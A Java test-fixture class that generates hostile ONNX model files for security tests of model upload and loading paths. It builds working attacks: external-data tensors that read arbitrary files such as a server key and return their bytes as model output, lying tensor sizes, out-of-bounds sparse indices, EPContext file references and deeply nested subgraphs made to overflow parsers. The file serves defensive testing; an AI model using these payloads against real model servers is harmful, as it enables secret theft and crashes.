package dev.modelfleet.onnx.testing;

import static dev.modelfleet.onnx.samples.GraphParts.UINT8;
import static dev.modelfleet.onnx.samples.GraphParts.dim;
import static dev.modelfleet.onnx.samples.GraphParts.graphAttribute;
import static dev.modelfleet.onnx.samples.GraphParts.tensorValue;

import ai.onnx.proto.OnnxMl.AttributeProto;
import ai.onnx.proto.OnnxMl.GraphProto;
import ai.onnx.proto.OnnxMl.NodeProto;
import ai.onnx.proto.OnnxMl.OperatorSetIdProto;
import ai.onnx.proto.OnnxMl.SparseTensorProto;
import ai.onnx.proto.OnnxMl.StringStringEntryProto;
import ai.onnx.proto.OnnxMl.TensorProto;
import ai.onnx.proto.OnnxMl.ValueInfoProto;
import com.google.protobuf.ByteString;
import dev.modelfleet.onnx.samples.GraphParts;
import java.io.ByteArrayOutputStream;
import java.util.List;

/**
 * Model files an attacker would upload, for the tests of every place that hands a model to ONNX
 * Runtime (server upload, derivation, agent load). The central one is the reviewed attack: a tiny
 * model whose only tensor is "external data" at a path of the attacker's choosing (the server's
 * {@code <key-dir>/director.key}, say), fed to an {@code Identity} node, so that the file's bytes
 * come out of the model's output wherever it runs.
 */
public final class HostileModels {

  /** The output every model here has: the stolen bytes, as uint8. */
  public static final String OUTPUT = "stolen";

  private HostileModels() {}

  /** Where in the model the external-data tensor hides. */
  public enum Hideout {
    /** A graph initializer. */
    INITIALIZER,
    /** The {@code value} attribute of a Constant node. */
    CONSTANT_ATTRIBUTE,
    /** An initializer of an If node's branch (a subgraph). */
    SUBGRAPH,
    /** The values of a sparse initializer. */
    SPARSE_INITIALIZER,
  }

  /**
   * A model that outputs {@code length} bytes of the file at {@code location} (absolute, or
   * relative to the model's folder, {@code ../} included), read by ONNX Runtime.
   */
  public static byte[] externalData(Hideout where, String location, long length) {
    TensorProto secret = externalTensor(OUTPUT + "_data", location, length);
    GraphProto.Builder graph =
        GraphProto.newBuilder().setName("exfiltrate").addOutput(uint8Output(OUTPUT, length));
    switch (where) {
      case INITIALIZER ->
          graph.addInitializer(secret).addNode(node("Identity", secret.getName(), OUTPUT));
      case CONSTANT_ATTRIBUTE ->
          graph.addNode(
              node("Constant", null, OUTPUT).toBuilder()
                  .addAttribute(
                      AttributeProto.newBuilder()
                          .setName("value")
                          .setType(AttributeProto.AttributeType.TENSOR)
                          .setT(secret)));
      case SUBGRAPH -> {
        GraphProto branch =
            GraphProto.newBuilder()
                .setName("branch")
                .addInitializer(secret)
                .addNode(node("Identity", secret.getName(), "branch_out"))
                .addOutput(uint8Output("branch_out", length))
                .build();
        graph
            .addInitializer(
                TensorProto.newBuilder()
                    .setName("always")
                    .addDims(1)
                    .setDataType(TensorProto.DataType.BOOL.getNumber())
                    .setRawData(ByteString.copyFrom(new byte[] {1})))
            .addNode(
                node("If", "always", OUTPUT).toBuilder()
                    .addAttribute(graphAttribute("then_branch", branch))
                    .addAttribute(graphAttribute("else_branch", branch)));
      }
      case SPARSE_INITIALIZER ->
          graph
              .addSparseInitializer(
                  SparseTensorProto.newBuilder()
                      .setValues(secret)
                      .setIndices(int64Tensor(OUTPUT + "_indices", length))
                      .addDims(length))
              .addNode(node("Identity", secret.getName(), OUTPUT));
      default -> throw new IllegalArgumentException(where.name());
    }
    return model(graph.build());
  }

  /** An initializer declaring {@code declared} uint8 elements but holding {@code held} bytes. */
  public static byte[] sizeMismatch(int declared, int held) {
    TensorProto lying =
        TensorProto.newBuilder()
            .setName("lying")
            .addDims(declared)
            .setDataType(TensorProto.DataType.UINT8.getNumber())
            .setRawData(ByteString.copyFrom(new byte[held]))
            .build();
    return model(
        GraphProto.newBuilder()
            .setName("lying")
            .addInitializer(lying)
            .addNode(node("Identity", "lying", OUTPUT))
            .addOutput(uint8Output(OUTPUT, declared))
            .build());
  }

  /** A sparse initializer whose one index lies far outside its dense shape. */
  public static byte[] sparseIndexOutOfBounds() {
    TensorProto values =
        TensorProto.newBuilder()
            .setName("sparse")
            .addDims(1)
            .setDataType(TensorProto.DataType.UINT8.getNumber())
            .setRawData(ByteString.copyFrom(new byte[] {42}))
            .build();
    TensorProto indices =
        TensorProto.newBuilder()
            .setName("sparse_indices")
            .addDims(1)
            .setDataType(TensorProto.DataType.INT64.getNumber())
            .addInt64Data(1L << 40)
            .build();
    return model(
        GraphProto.newBuilder()
            .setName("sparse")
            .addSparseInitializer(
                SparseTensorProto.newBuilder().setValues(values).setIndices(indices).addDims(4))
            .addNode(node("Identity", "sparse", OUTPUT))
            .addOutput(uint8Output(OUTPUT, 4))
            .build());
  }

  /** An EP context node naming a context file instead of embedding it. */
  public static byte[] epContextFile(String location) {
    NodeProto node =
        NodeProto.newBuilder()
            .setOpType("EPContext")
            .setDomain("com.microsoft")
            .setName("context")
            .addOutput(OUTPUT)
            .addAttribute(
                AttributeProto.newBuilder()
                    .setName("embed_mode")
                    .setType(AttributeProto.AttributeType.INT)
                    .setI(0))
            .addAttribute(
                AttributeProto.newBuilder()
                    .setName("ep_cache_context")
                    .setType(AttributeProto.AttributeType.STRING)
                    .setS(ByteString.copyFromUtf8(location)))
            .build();
    return model(
        GraphProto.newBuilder()
            .setName("context")
            .addNode(node)
            .addOutput(uint8Output(OUTPUT, 1))
            .build());
  }

  /**
   * If nodes nested {@code depth} levels deep, each branch the next If: what a crafted file uses to
   * make a recursive reader overflow its stack.
   */
  public static byte[] nestedSubgraphs(int depth) {
    GraphProto leaf =
        GraphProto.newBuilder()
            .setName("leaf")
            .addNode(node("Identity", "x", "leaf_out"))
            .addOutput(uint8Output("leaf_out", 1))
            .build();
    GraphProto inner = leaf;
    for (int i = 0; i < depth; i++) {
      inner =
          GraphProto.newBuilder()
              .setName("level" + i)
              .addNode(
                  node("If", "cond", "level" + i + "_out").toBuilder()
                      .addAttribute(graphAttribute("then_branch", inner))
                      .addAttribute(graphAttribute("else_branch", leaf)))
              .addOutput(uint8Output("level" + i + "_out", 1))
              .build();
      if (inner.getSerializedSize() > 64 << 20) {
        throw new IllegalArgumentException("depth " + depth + " makes a model of over 64 MB");
      }
    }
    return model(inner);
  }

  /**
   * The reviewed crash of the old cost estimator: {@code levels} levels of node → attribute →
   * subgraph → node ..., written straight in the wire format (a few bytes per level, no names,
   * nothing else), so that 20 KB nest thousands of levels deep.
   */
  public static byte[] selfNestedAttribute(int levels) {
    byte[] node = new byte[0];
    for (int i = 0; i < levels; i++) {
      byte[] graph = lengthDelimited(1, node); // GraphProto.node
      byte[] attribute = lengthDelimited(6, graph); // AttributeProto.g
      node = lengthDelimited(5, attribute); // NodeProto.attribute
    }
    byte[] graph = lengthDelimited(1, node);
    return concat(new byte[] {0x08, 0x08}, lengthDelimited(7, graph)); // ir_version, graph
  }

  /**
   * The reviewed crash of the old cost estimator, in a form ONNX Runtime loads: a node whose field
   * 5 (attribute) is written as a varint. ONNX Runtime's parser skips a field of the wrong wire
   * type, so to it the node is {@code Identity(blob) -> y} over a graph input named {@code blob}; a
   * reader that takes field 5 for a message whatever its wire type reads the varint as a length and
   * descends into node → attribute → subgraph → node ... inside the blob, {@code levels} levels
   * deep (about 10 bytes each).
   */
  public static byte[] nestedInsideAName(int levels) {
    byte[] inner = "leaf".getBytes(java.nio.charset.StandardCharsets.UTF_8);
    byte[] outer = inner;
    for (int i = 0; i < levels; i++) {
      inner = outer;
      byte[] input = lengthDelimited(1, inner); // NodeProto.input, to ONNX Runtime
      byte[] graph = concat(varintField(11, input.length), input); // AttributeProto.graphs
      outer = concat(varintField(5, graph.length), graph); // NodeProto.attribute, wrongly typed
    }
    // To ONNX Runtime the node reads one input whose name is the innermost-but-one level.
    byte[] node =
        concat(
            outer,
            concat(
                lengthDelimited(2, "y".getBytes()),
                lengthDelimited(4, "Identity".getBytes()))); // output, op_type
    byte[] valueInfo =
        concat(
            lengthDelimited(1, inner),
            lengthDelimited(2, uint8Output("x", 1).getType().toByteArray()));
    byte[] graph =
        concat(
            lengthDelimited(1, node),
            concat(
                lengthDelimited(2, "g".getBytes()),
                concat(
                    lengthDelimited(11, valueInfo),
                    lengthDelimited(12, uint8Output("y", 1).toByteArray()))));
    byte[] opset = OperatorSetIdProto.newBuilder().setVersion(17).build().toByteArray();
    return concat(
        new byte[] {0x08, 0x08}, concat(lengthDelimited(7, graph), lengthDelimited(8, opset)));
  }

  private static byte[] varintField(int field, long value) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(field << 3);
    while ((value & ~0x7FL) != 0) {
      out.write((int) ((value & 0x7F) | 0x80));
      value >>>= 7;
    }
    out.write((int) value);
    return out.toByteArray();
  }

  static byte[] lengthDelimited(int field, byte[] body) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write((field << 3) | 2);
    int length = body.length;
    while ((length & ~0x7F) != 0) {
      out.write((length & 0x7F) | 0x80);
      length >>>= 7;
    }
    out.write(length);
    out.writeBytes(body);
    return out.toByteArray();
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] all = java.util.Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, all, a.length, b.length);
    return all;
  }

  private static TensorProto externalTensor(String name, String location, long length) {
    return TensorProto.newBuilder()
        .setName(name)
        .addDims(length)
        .setDataType(TensorProto.DataType.UINT8.getNumber())
        .setDataLocation(TensorProto.DataLocation.EXTERNAL)
        .addExternalData(entry("location", location))
        .addExternalData(entry("offset", "0"))
        .addExternalData(entry("length", Long.toString(length)))
        .build();
  }

  private static TensorProto int64Tensor(String name, long count) {
    TensorProto.Builder t =
        TensorProto.newBuilder()
            .setName(name)
            .addDims(count)
            .setDataType(TensorProto.DataType.INT64.getNumber());
    for (long i = 0; i < count; i++) {
      t.addInt64Data(i);
    }
    return t.build();
  }

  private static StringStringEntryProto entry(String key, String value) {
    return StringStringEntryProto.newBuilder().setKey(key).setValue(value).build();
  }

  private static NodeProto node(String op, String input, String output) {
    return GraphParts.node(
        op, op + "_" + output, input == null ? List.of() : List.of(input), List.of(output));
  }

  private static ValueInfoProto uint8Output(String name, long length) {
    return tensorValue(name, UINT8, dim(length));
  }

  private static byte[] model(GraphProto graph) {
    return GraphParts.model(graph, "attacker", 17).build().toByteArray();
  }
}
